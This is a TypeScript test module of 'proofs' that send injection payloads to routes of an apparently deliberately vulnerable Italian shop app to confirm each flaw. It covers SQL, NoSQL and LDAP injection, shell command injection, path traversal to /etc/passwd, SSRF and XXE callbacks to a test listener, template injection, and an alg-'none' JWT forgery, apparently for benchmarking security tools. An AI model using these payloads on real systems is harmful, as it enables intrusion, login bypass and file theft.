import { LISTENER_ANSWER, type Proof } from './scene.ts';
import type { Seen, Visitor } from './visitor.ts';

type Send = (guest: Visitor, value: string) => Promise<Seen>;

const query =
  (path: string, name: string): Send =>
  (guest, value) =>
    guest.get(path, { [name]: value });
const sentAs =
  (path: string, name: string, more: Readonly<Record<string, string>> = {}): Send =>
  (guest, value) =>
    guest.post(path, { ...more, [name]: value });

/** A true condition answers like the plain value, a false one differently. */
const differs =
  (send: Send, plain: string, yes: string, no: string): Proof =>
  async ({ guest }) => {
    const [usual, same, other] = [await send(guest, plain), await send(guest, yes), await send(guest, no)];
    return usual.body === same.body && other.body !== usual.body;
  };

/** The database's own words come back. */
const fails =
  (send: Send, value: string, words: RegExp): Proof =>
  async ({ guest }) =>
    words.test((await send(guest, value)).body) && !words.test((await send(guest, '1')).body);

const UNRECOGNISED = /unrecognized token|syntax error/;

/** Takes the second the value asks for; the same without the sleep answers sooner, and the answers are the same. */
const sleeps =
  (send: Send, slow: string, quick: string): Proof =>
  async ({ guest }) => {
    const asleep = await send(guest, slow);
    const awake = [await send(guest, quick), await send(guest, quick), await send(guest, quick)];
    const same = awake.every(({ body }) => body === asleep.body);
    return asleep.ms >= 990 && Math.min(...awake.map(({ ms }) => ms)) < 900 && same;
  };

const shows =
  (send: Send, value: string, text: string): Proof =>
  async ({ guest }) =>
    (await send(guest, value)).body.includes(text) && !(await send(guest, 'x')).body.includes(text);

const PASSWD = 'root:x:0:0:root';

const tokenOf = (claims: object) =>
  [{ alg: 'none' }, claims].map((part) => Buffer.from(JSON.stringify(part)).toString('base64url')).join('.');

export const INJECTION_PROOFS: Readonly<Record<string, Proof>> = {
  'sql-string': fails(query('/prodotti', 'categoria'), "olio'", UNRECOGNISED),
  'sql-number': differs(query('/prodotto', 'id'), '3', '3 AND 1=1', '3 AND 1=2'),
  'sql-date': differs(query('/eventi', 'dal'), '2026-03-01', "2026-03-01') AND ('1'='1", "2026-03-01') AND ('1'='2"),
  'sql-like': async ({ guest }) => {
    const send = query('/trova', 'testo');
    const yes = await send(guest, "miele%') AND 1=1 -- ");
    const no = await send(guest, "miele%') AND 1=2 -- ");
    return yes.body.includes('Miele di acacia') && !no.body.includes('Miele di acacia');
  },
  'sql-order-by': async ({ guest }) => {
    const send = query('/classifica', 'ordina');
    const [up, down] = [
      await send(guest, '(CASE WHEN 1=1 THEN id ELSE -id END)'),
      await send(guest, '(CASE WHEN 1=2 THEN id ELSE -id END)'),
    ];
    return up.body !== down.body && UNRECOGNISED.test((await send(guest, "prezzo'")).body);
  },
  'sql-in': differs(query('/confezioni', 'prodotti'), '1,3', '1,3) AND (1=1', '1,3) AND (1=2'),
  'sql-limit': fails(query('/novita', 'quante'), "3'", UNRECOGNISED),
  'sql-insert': fails(sentAs('/contatti', 'testo', { nome: 'a' }), "ciao'", UNRECOGNISED),
  'sql-insert-name': fails(sentAs('/contatti', 'nome', { testo: 'a' }), "Anna'", UNRECOGNISED),
  'sql-update': async ({ maria }) =>
    UNRECOGNISED.test((await maria.post('/conto/indirizzo', { indirizzo: "via'" })).body),
  'sql-login': async ({ guest }) => {
    const send = sentAs('/accedi', 'utente', { password: 'x' });
    const [refused, letIn] = [await send(guest, "maria' AND 1=2 -- "), await send(guest, "maria' AND 1=1 -- ")];
    return refused.status === 200 && letIn.status === 302;
  },
  'sql-login-partner': async ({ guest }) => {
    const send = sentAs('/accesso-partner', 'partner', { chiave: 'x' });
    return (
      (await send(guest, "x' OR '1'='1' -- ")).body.includes('Your price list') &&
      (await send(guest, "x' OR '1'='2' -- ")).body.includes('Unknown partner')
    );
  },
  'sql-time-string': sleeps(query('/visita', 'pagina'), "x' OR sleep(1) -- ", "x' OR sleep(0) -- "),
  'sql-time-update': sleeps(query('/promemoria', 'prodotto'), '1 AND sleep(1)', '1 AND sleep(0)'),
  'sql-cookie': differs(
    (guest, value) => guest.get('/consigli', {}, { cookie: `gusto=${encodeURIComponent(value)}` }),
    'vino',
    "vino' AND '1'='1",
    "vino' AND '1'='2",
  ),
  'sql-header': fails(
    (guest, value) => guest.get('/statistiche-browser', {}, { 'user-agent': value }),
    "x'",
    UNRECOGNISED,
  ),
  'sql-path': fails((guest, value) => guest.ask(`/api/prodotti/${encodeURIComponent(value)}`), "1'", UNRECOGNISED),
  'sql-json': async ({ guest }) =>
    (await guest.json('/api/prodotti/cerca', { testo: "x' OR 1=1 -- " })).body.includes('Ricotta') &&
    !(await guest.json('/api/prodotti/cerca', { testo: "x' OR 1=2 -- " })).body.includes('Ricotta'),
  'sql-graphql': fails(
    (guest, value) =>
      guest.json('/graphql', {
        query: 'query($categoria: String) { prodotti(categoria: $categoria) { id } }',
        variables: { categoria: value },
      }),
    "olio'",
    UNRECOGNISED,
  ),
  'nosql-json': async ({ guest }) =>
    (await guest.json('/api/soci/accesso', { utente: 'socio1', password: { $ne: '' } })).status === 200 &&
    (await guest.json('/api/soci/accesso', { utente: 'socio1', password: 'x' })).status === 401,
  'nosql-query': async ({ guest }) =>
    (await guest.ask('/api/coupon?codice[$ne]=x')).body.includes('true') &&
    (await guest.ask('/api/coupon?codice[$eq]=x')).body.includes('false'),
  'ldap-search': async ({ guest }) => {
    const send = query('/rubrica', 'nome');
    return (
      (await send(guest, '*')).body.includes('bruno') && (await send(guest, 'a)(')).body.includes('Bad search filter')
    );
  },
  'ldap-login': async ({ guest }) =>
    (await guest.post('/intranet', { collega: 'carla)(|(cn=*', parola: 'x)' })).body.includes('Buon lavoro') ||
    (await guest.post('/intranet', { collega: '*', parola: '*' })).body.includes('Buon lavoro'),
  'command-output': shows(query('/strumenti/ping', 'host'), 'x; echo $((1234*4321))', '5332114'),
  'command-quoted': shows(query('/strumenti/dominio', 'nome'), '$(echo ab""cd)', 'abcd'),
  'command-blind': sleeps(sentAs('/strumenti/copia', 'archivio'), "x'; sleep 1; echo '", "x'; sleep 0; echo '"),
  'path-relative': shows(query('/scarica', 'file'), '../../../etc/passwd', PASSWD),
  'path-absolute': shows(query('/leggi', 'percorso'), '/etc/passwd', PASSWD),
  'path-prefix': shows(query('/manuale', 'nome'), 'manuali/../../../../etc/passwd', PASSWD),
  'path-suffix': shows(query('/pagina', 'nome'), '../../../etc/passwd\0', PASSWD),
  'path-stripped': shows(query('/lingua-testi', 'file'), '....//....//....//etc/passwd', PASSWD),
  'path-encoded': shows(query('/documento', 'id'), '%2e%2e/%2e%2e/%2e%2e/etc/passwd', PASSWD),
  'path-file-url': shows(query('/anteprima', 'uri'), 'file:///etc/passwd', PASSWD),
  'path-segment': async ({ guest }) => (await guest.ask('/immagini/..%2f..%2f..%2fetc%2fpasswd')).body.includes(PASSWD),
  'ssrf-output': async ({ guest, listener }) =>
    (await guest.get('/importa', { url: listener.urlFor('importa') })).body.includes('da-fuori') &&
    listener.heard('importa'),
  'ssrf-blind': async ({ guest, listener }) => {
    const { body } = await guest.post('/avvisi', { indirizzo: listener.urlFor('avvisi') });
    return listener.heard('avvisi') && !body.includes('da-fuori');
  },
  'remote-inclusion': async ({ guest, listener }) =>
    (await guest.get('/vetrina', { modulo: listener.urlFor('vetrina') })).body.includes(LISTENER_ANSWER),
  'xxe-output': async ({ guest }) =>
    (
      await guest.xml(
        '/api/ordini/xml',
        '<!DOCTYPE o [<!ENTITY f SYSTEM "file:///etc/passwd">]><o><nota>&f;</nota></o>',
      )
    ).body.includes(PASSWD),
  'xxe-blind': async ({ guest, listener }) => {
    await guest.xml(
      '/api/listino/xml',
      `<!DOCTYPE o [<!ENTITY % f SYSTEM "${listener.urlFor('listino')}"> %f;]><o><prezzo>1</prezzo></o>`,
    );
    return listener.heard('listino');
  },
  'template-braces': shows(query('/biglietto', 'testo'), '{{1234*4321}}', '5332114'),
  'template-dollar': shows(query('/newsletter/anteprima', 'oggetto'), '\u0024{1234*4321}', '5332114'),
  'jwt-none': async ({ guest }) => {
    const token = `${tokenOf({ sub: 'x', ruolo: 'gestore' })}.`;
    return (await guest.get('/api/tessera', {}, { authorization: `Bearer ${token}` })).body.includes('gestore');
  },
};
